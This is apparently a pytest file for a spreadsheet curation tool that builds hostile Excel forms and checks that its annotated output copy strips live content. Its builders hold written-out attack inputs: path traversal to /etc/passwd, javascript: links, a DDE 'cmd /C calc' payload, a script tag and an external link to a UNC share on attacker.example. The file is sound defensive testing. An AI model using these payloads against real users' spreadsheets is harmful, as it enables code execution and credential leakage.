"""The output stage on hostile forms: every case gives a complete output folder (exit 0 or 1), an
annotated copy that openpyxl can open and that holds nothing live (no defined names of the form,
external links, conditional formats, data validations, formulas, unsafe hyperlinks, control or
bidi override characters), plots whatever the study labels hold, and an existing output folder
keeps the files the run did not write.

The forms are built here (the same tricks as the security QA's cases): parts that calamine reads
and openpyxl cannot (a relationship outside the archive or to a URL, nested ``extLst``, an empty
``<fill/>``, a numeric ``NaN``), and live content openpyxl does read (external links, conditional
formats, data validations, defined names, ``javascript:`` links, formulas).
"""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from builders import write_form
from curation.cli import main
from curation.safety import file_sha256
from test_rules import baseline

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
UNSAFE_ESCAPE = re.compile(r"_x(00[01][0-9A-Fa-f]|00[89][0-9A-Fa-f]|007[Ff]|202[A-Ea-e]|206[6-9])_")
REBUILT = "NOTE: the original form could not be re-opened for annotation"


def run_cli(*args):
    return CliRunner().invoke(main, list(map(str, args)), catch_exceptions=False)


def members(p: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(p) as z:
        return {i.filename: z.read(i.filename) for i in z.infolist()}


def write_zip(p: Path, m: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        for k, v in m.items():
            z.writestr(k, v)
    return p


def put_cell(xml: bytes, ref: str, cell: bytes) -> bytes:
    """Replace cell ``ref`` of a sheet part (or add it at the start of its row)."""
    new, n = re.subn(rb'<c r="' + ref.encode() + rb'"[^>]*?(/>|>.*?</c>)', cell.replace(b"\\", b"\\\\"), xml, count=1)
    if n:
        return new
    row = re.search(rb"\d+", ref.encode()).group()
    return re.sub(rb'(<row r="' + row + rb'"[^>]*>)', rb"\1" + cell.replace(b"\\", b"\\\\"), xml, count=1)


def base_form(path: Path) -> Path:
    f = baseline()
    for s in f["studies"]:
        s["notes"] = f"note on {s['study_id']}"  # a column that matches no field (kept in the copy)
    return write_form(path, **f)


def sheet_rels(m: dict[str, bytes], body: str) -> None:
    m["xl/worksheets/_rels/sheet1.xml.rels"] = (f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{body}'
                                                "</Relationships>").encode()


# ------------------------------------------------------------------------------ the cases
def rels_outside_archive(p: Path) -> Path:
    m = members(base_form(p))
    sheet_rels(m, f'<Relationship Id="rId91" Type="{RNS}/drawing" Target="../../../../etc/passwd"/>'
                  f'<Relationship Id="rId92" Type="{RNS}/comments" Target="/etc/passwd"/>')
    m["xl/worksheets/sheet1.xml"] = m["xl/worksheets/sheet1.xml"].replace(
        b"</worksheet>", b'<drawing r:id="rId91"/></worksheet>')
    if b"xmlns:r=" not in m["xl/worksheets/sheet1.xml"][:400]:
        m["xl/worksheets/sheet1.xml"] = m["xl/worksheets/sheet1.xml"].replace(
            b"<worksheet ", f'<worksheet xmlns:r="{RNS}" '.encode(), 1)
    return write_zip(p, m)


def rels_url(p: Path) -> Path:
    m = members(base_form(p))
    sheet_rels(m, f'<Relationship Id="rId91" Type="{RNS}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>'
                  f'<Relationship Id="rId92" Type="{RNS}/drawing" Target="http://127.0.0.1:9/x.xml" TargetMode="External"/>')
    x = m["xl/worksheets/sheet1.xml"]
    if b"xmlns:r=" not in x[:400]:
        x = x.replace(b"<worksheet ", f'<worksheet xmlns:r="{RNS}" '.encode(), 1)
    x = x.replace(b"</sheetData>", b'</sheetData><hyperlinks><hyperlink ref="B2" r:id="rId91"/></hyperlinks>', 1)
    m["xl/worksheets/sheet1.xml"] = re.sub(rb"(<pageMargins[^>]*/>)?</worksheet>", rb'\1<drawing r:id="rId92"/></worksheet>', x)
    return write_zip(p, m)


def nested_extlst(p: Path) -> Path:
    m = members(base_form(p))
    deep = b"<extLst>" + b"<ext>" * 50 + b"</ext>" * 50 + b"</extLst>"
    m["xl/worksheets/sheet1.xml"] = m["xl/worksheets/sheet1.xml"].replace(b"</worksheet>", deep + b"</worksheet>")
    return write_zip(p, m)


def empty_fill(p: Path) -> Path:
    m = members(base_form(p))
    m["xl/styles.xml"] = re.sub(rb'<fills count="(\d+)">(.*?)</fills>',
                                lambda g: b'<fills count="%d">' % (int(g.group(1)) + 1) + g.group(2) + b"<fill/></fills>",
                                m["xl/styles.xml"], count=1, flags=re.S)
    assert b"<fill/></fills>" in m["xl/styles.xml"]
    return write_zip(p, m)


def numeric_nan(p: Path) -> Path:
    m = members(base_form(p))
    m["xl/worksheets/sheet1.xml"] = put_cell(m["xl/worksheets/sheet1.xml"], "Z2", b'<c r="Z2"><v>NaN</v></c>')
    return write_zip(p, m)


def control_chars(p: Path, *, also_unopenable: bool = False) -> Path:
    m = members(rels_outside_archive(p) if also_unopenable else base_form(p))
    m["xl/worksheets/sheet1.xml"] = put_cell(
        m["xl/worksheets/sheet1.xml"], "B2",
        '<c r="B2" t="inlineStr"><is><t>Stros_x0007_berg_x001B_[31m\u202eevil</t></is></c>'.encode())
    m["xl/worksheets/sheet1.xml"] = put_cell(
        m["xl/worksheets/sheet1.xml"], "Q3", b'<c r="Q3" t="inlineStr"><is><t>_x000D_=2+2_x0000_</t></is></c>')
    return write_zip(p, m)


def control_chars_rebuilt(p: Path) -> Path:
    return control_chars(p, also_unopenable=True)


def external_link(p: Path) -> Path:
    m = members(base_form(p))
    m["xl/externalLinks/externalLink1.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="{NS}" xmlns:r="{RNS}">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames><sheetDataSet>'
        '<sheetData sheetId="0"><row r="1"><cell r="A1"><v>101</v></cell></row></sheetData></sheetDataSet>'
        "</externalBook></externalLink>").encode()
    m["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{RNS}/externalLinkPath" '
        'Target="file:///\\\\attacker.example\\share\\x.xlsx" TargetMode="External"/></Relationships>').encode()
    m["[Content_Types].xml"] = m["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
                     b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
    m["xl/_rels/workbook.xml.rels"] = m["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", f'<Relationship Id="rIdX1" Type="{RNS}/externalLink" '
                             f'Target="externalLinks/externalLink1.xml"/></Relationships>'.encode())
    wbx = m["xl/workbook.xml"]
    ref = b'<externalReferences><externalReference r:id="rIdX1"/></externalReferences>'
    root = wbx[wbx.index(b"<workbook"):wbx.index(b">", wbx.index(b"<workbook"))]
    if b"xmlns:r=" not in root:  # openpyxl through lxml declares the prefix only on the elements that use it
        wbx = wbx.replace(b"<workbook ", f'<workbook xmlns:r="{RNS}" '.encode(), 1)
    m["xl/workbook.xml"] = wbx.replace(b"<calcPr", ref + b"<calcPr", 1) if b"<calcPr" in wbx else \
        wbx.replace(b"</workbook>", ref + b"</workbook>")
    # outcomes!F2 (n_evaluable of S01) is a formula on the external book, with its saved value
    m["xl/worksheets/sheet2.xml"] = put_cell(m["xl/worksheets/sheet2.xml"], "F2",
                                             b'<c r="F2"><f>[1]Sheet1!A1</f><v>101</v></c>')
    return write_zip(p, m)


def live_content(p: Path) -> Path:
    """What openpyxl reads and keeps: conditional formats, data validations, defined names, a
    print area, links (javascript: and https:), a comment, a formula with and without a value."""
    from openpyxl.comments import Comment
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    base_form(p)
    wb = openpyxl.load_workbook(p)
    st = wb["studies"]
    st["B2"].comment = Comment("=cmd|' /C calc'!A0 <script>alert(1)</script>", "x")
    st["B3"].hyperlink = "javascript:alert(1)"
    st["D2"].hyperlink = "https://doi.org/10.1056/NEJMoa1607427"
    st.conditional_formatting.add("A2:A20", FormulaRule(formula=["cmd|' /C calc'!A0"]))
    dv = DataValidation(type="custom", formula1="cmd|' /C calc'!A0")
    dv.add("C2:C20")
    st.add_data_validation(dv)
    wb.defined_names["evil"] = DefinedName("evil", attr_text="cmd|' /C calc'!A0")
    st.print_area = "A1:D4"
    st.auto_filter.ref = "A1:P3"
    st["R2"] = "=1+1"  # an extra column: a formula without a saved value
    wb.save(p)
    m = members(p)
    m["xl/worksheets/sheet1.xml"] = put_cell(m["xl/worksheets/sheet1.xml"], "R3",
                                             b'<c r="R3" t="str"><f>HYPERLINK("http://x","y")</f><v>y</v></c>')
    return write_zip(p, m)


UNOPENABLE = [rels_outside_archive, rels_url, nested_extlst, empty_fill, numeric_nan, control_chars_rebuilt]
OPENABLE = [control_chars, external_link, live_content]


# ------------------------------------------------------------------------------ checks
def assert_inert(data: bytes) -> openpyxl.Workbook:
    """The annotated copy opens and holds nothing live; returns it opened."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    findings_index = wb.sheetnames.index(wb.sheetnames[-1])
    assert wb.sheetnames[-1].startswith("findings")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        names = z.namelist()
        assert not [n for n in names if n.startswith(("xl/externalLinks/", "xl/pivot")) or "vbaProject" in n], names
        book = z.read("xl/workbook.xml")
        assert b"externalReference" not in book
        for d in re.findall(rb"<definedName\b[^>]*>[^<]*</definedName>", book):
            # the only name: the filter of the findings sheet that the copy adds itself
            assert b'name="_xlnm._FilterDatabase"' in d and f'localSheetId="{findings_index}"'.encode() in d, d
        for n in names:
            body = z.read(n)
            if n.startswith("xl/worksheets/") and n.endswith(".xml"):
                assert not re.search(rb"<f[ >/]", body), n
                assert b"<conditionalFormatting" not in body and b"<dataValidation" not in body, n
            if n.endswith(".rels"):
                for target in re.findall(rb'Target="([^"]*)"[^>]*TargetMode="External"', body):
                    assert re.match(rb"(?i)(https?://|mailto:)", target), (n, target)
    assert not wb.defined_names and not any(ws.defined_names for ws in wb.worksheets)
    for ws in wb.worksheets:
        assert not ws.conditional_formatting and not ws.data_validations.dataValidation, ws.title
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate}"
                if isinstance(c.value, str):
                    assert not UNSAFE.search(c.value) and not UNSAFE_ESCAPE.search(c.value), (c.coordinate, c.value)
                if c.hyperlink is not None:
                    assert re.match(r"(?i)(https?://|mailto:)", c.hyperlink.target or ""), c.hyperlink
                if c.comment is not None:
                    assert not UNSAFE.search(c.comment.text)
    return wb


@pytest.fixture
def no_plots(monkeypatch):
    import curation.run

    monkeypatch.setattr(curation.run, "plot_jobs", lambda run: [])  # the plots are tested below (speed)


def run_case(tmp_path: Path, build) -> tuple[Path, Path, object]:
    form = build(tmp_path / f"{build.__name__}.xlsx")
    digest = file_sha256(form)
    out = tmp_path / "out"
    r = run_cli("run", form, "-o", out, "-q")
    assert r.exit_code in (0, 1), r.output
    assert file_sha256(form) == digest
    for name in ("report.html", "findings.json", "findings.csv", "clean.csv", "analysis.json",
                 f"{build.__name__}.annotated.xlsx"):
        assert (out / name).is_file(), name
    return form, out / f"{build.__name__}.annotated.xlsx", r


@pytest.mark.parametrize("build", UNOPENABLE, ids=lambda b: b.__name__)
def test_form_openpyxl_cannot_open_gets_a_rebuilt_inert_copy(tmp_path, no_plots, build):
    form, annotated, _ = run_case(tmp_path, build)
    wb = assert_inert(annotated.read_bytes())
    note = wb["findings"]["A1"].value
    assert note.startswith(REBUILT) and "\n" not in note
    assert [c.value for c in wb["findings"][2]][:3] == ["cell", "rule", "severity"]
    findings = json.loads((annotated.parent / "findings.json").read_text())["findings"]
    assert wb["findings"].max_row == len(findings) + 2
    # the values validation read, at their original cells: header, fields, the unmatched column
    st = wb["studies"]
    assert [st["A1"].value, st["A2"].value, st["A3"].value] == ["study_id", "S01", "S02"]
    assert st["C2"].value == 2017 and st["Q1"].value == "notes" and st["Q3"].value in ("note on S02", "=2+2")
    assert wb["outcomes"]["F2"].value == 101 and wb["adverse_events"]["A2"].value == "S01"
    # and every finding on a cell is marked there
    for f in findings:
        if f["cell"] is None or f["sheet"] not in wb.sheetnames:
            continue
        cell = wb[f["sheet"]][f"{f['column'] or 'A'}{f['row']}"]
        assert cell.comment is not None and f["rule"] in cell.comment.text, f["cell"]


@pytest.mark.parametrize("build", OPENABLE, ids=lambda b: b.__name__)
def test_live_content_is_removed_from_the_annotated_copy(tmp_path, no_plots, build):
    form, annotated, _ = run_case(tmp_path, build)
    wb = assert_inert(annotated.read_bytes())
    assert wb["findings"]["A1"].value == "cell"  # opened normally: no note
    original = openpyxl.load_workbook(form)
    assert wb.sheetnames[:-1] == original.sheetnames  # the form's own sheets are all there
    if build is live_content:
        st = wb["studies"]
        assert st["B3"].hyperlink is None and st["D2"].hyperlink.target.startswith("https://doi.org/")
        assert st["R2"].value == "'=1+1" and st["R3"].value == "y"  # formulas: inert text, saved value
        assert "<script>" in st["B2"].comment.text  # the reviewer's comment is text, kept
        assert not st.print_area
    if build is external_link:
        assert wb["outcomes"]["F2"].value == 101
    if build is control_chars:
        assert wb["studies"]["B2"].value == "Strosberg[31mevil"


def test_validate_annotate_uses_the_rebuilt_copy_too(tmp_path):
    form = rels_url(tmp_path / "rels_url.xlsx")
    r = run_cli("validate", form, "--annotate", tmp_path / "ann", "-q")
    assert r.exit_code in (0, 1), r.output
    wb = assert_inert((tmp_path / "ann" / "rels_url.annotated.xlsx").read_bytes())
    assert wb["findings"]["A1"].value.startswith(REBUILT)
    assert wb["studies"]["A2"].value == "S01"


def test_rebuilt_copy_without_the_validation_result_still_lists_the_findings(tmp_path):
    from curation.report import annotated_workbook
    from curation.validation import validate

    form = empty_fill(tmp_path / "f.xlsx")
    result = validate(form)
    wb = assert_inert(annotated_workbook(form, result.finding_list))
    assert wb.sheetnames == ["findings"] and wb["findings"]["A1"].value.startswith(REBUILT)
    assert wb["findings"].max_row == len(result.finding_list) + 2


# ------------------------------------------------------------------------------ plots
def test_mathtext_in_study_labels_still_gives_every_plot(tmp_path, monkeypatch):
    monkeypatch.setenv("CURATE_SERIAL", "1")
    f = baseline()
    f["studies"][0]["first_author"] = r"Smith $\undefinedcommand{x}$"
    f["studies"][1]["first_author"] = r"$\frac$ ^_^ $5 and $"
    form = write_form(tmp_path / "math.xlsx", **f)
    out = tmp_path / "out"
    r = run_cli("run", form, "-o", out, "-q")
    assert r.exit_code in (0, 1), r.output
    analysis = json.loads((out / "analysis.json").read_text())
    pooled = [a for a in analysis["analyses"] if a.get("estimate") is not None
              and a["role"] in ("primary", "subgroup_test")]
    assert pooled
    for a in pooled:
        stem = a["id"].replace(":", "--")
        assert (out / "plots" / f"{stem}.svg").is_file(), stem
    assert "not drawn" not in (out / "report.html").read_text()


def test_a_plot_that_fails_is_skipped_with_a_note(tmp_path, monkeypatch):
    import curation.plots

    monkeypatch.setenv("CURATE_SERIAL", "1")
    real = curation.plots.analysis_forest

    def broken(analysis, subgroup_analyses=()):
        if analysis.id == "orr":
            raise ValueError("boom\nsecond line")
        return real(analysis, subgroup_analyses)

    monkeypatch.setattr(curation.plots, "analysis_forest", broken)
    form = write_form(tmp_path / "f.xlsx", **baseline())
    out = tmp_path / "out"
    r = run_cli("run", form, "-o", out, "-q")
    assert r.exit_code == 0, r.output
    html = (out / "report.html").read_text()
    assert "plots/orr not drawn (ValueError: boom second line)" in html
    assert not (out / "plots" / "orr.svg").exists()
    assert (out / "plots" / "dcr.svg").is_file() and (out / "plots" / "orr_by_grade.svg").is_file()


# ------------------------------------------------------------------------------ the output folder
def test_existing_output_folder_keeps_a_foreign_file(tmp_path, no_plots):
    form = write_form(tmp_path / "f.xlsx", **baseline())
    out = tmp_path / "out"
    (out / "plots").mkdir(parents=True)
    (out / "mine.docx").write_bytes(b"the reviewer's draft")
    (out / "plots" / "my_figure.png").write_bytes(b"not from curate")
    assert run_cli("run", form, "-o", out, "-q").exit_code == 0
    assert (out / "mine.docx").read_bytes() == b"the reviewer's draft"
    assert (out / "plots" / "my_figure.png").read_bytes() == b"not from curate"
    first = (out / "findings.json").read_bytes()
    assert run_cli("run", form, "-o", out, "-q").exit_code == 0  # and again, over its own files
    assert (out / "findings.json").read_bytes() == first and (out / "mine.docx").is_file()
    assert not [p for p in out.rglob("*") if p.name.endswith(".tmp")]
